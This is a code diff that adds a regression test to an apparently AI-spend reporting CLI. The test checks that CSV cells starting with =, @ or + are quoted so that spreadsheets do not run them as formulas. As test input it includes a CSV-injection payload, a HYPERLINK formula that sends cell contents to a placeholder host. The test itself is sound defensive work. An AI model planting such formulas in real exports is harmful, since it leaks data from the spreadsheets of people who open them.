@@ -321,6 +321,21 @@ def test_a_group_without_a_value_reads_none_not_a_blank(tmp_path) -> None:
     assert {row["task"] for row in json.loads(as_json.output)} == {"summarise", None}  # JSON keeps the null
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path) -> None:
+    # Tasks and tags come from callers (the gateway's x-tokenomy-task header): a report's CSV opened in a spreadsheet
+    # ran `=HYPERLINK(...)` as a formula. Amounts, negative numbers included, stay numbers.
+    ledger = tmp_path / "ledger.duckdb"
+    day = datetime(2026, 11, 2, 10, tzinfo=UTC)
+    tasks = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1)", "+1+2", "-0.5", "summarise"]
+    open_store(ledger).write([UsageEvent(ts=day, provider="openai", model="gpt-4o-mini", task=task,
+                                         cost_usd=Decimal("0.001")) for task in tasks])
+    result = CliRunner().invoke(app, ["report", "spend", "--by", "task", "--csv", "--ledger", str(ledger)])
+    assert result.exit_code == 0, result.output
+    cells = {line.split(",")[0].strip('"') for line in result.output.splitlines()[1:]}
+    assert {"'=HYPERLINK(", "'@SUM(A1)", "'+1+2", "-0.5", "summarise"} <= {c.split('""')[0] for c in cells}
+    assert "0.001000" in result.output
+
+
 def test_a_default_window_starts_on_a_whole_period_of_the_rows(ledger_path) -> None:
     # Asked at 12:30, "the last 14 days" of family-daily began at 12:30 fourteen days ago: that day's row held only
     # its afternoon ($1 of its $3 here) and read as a drop in spend. Each preset's first row is now a whole period.
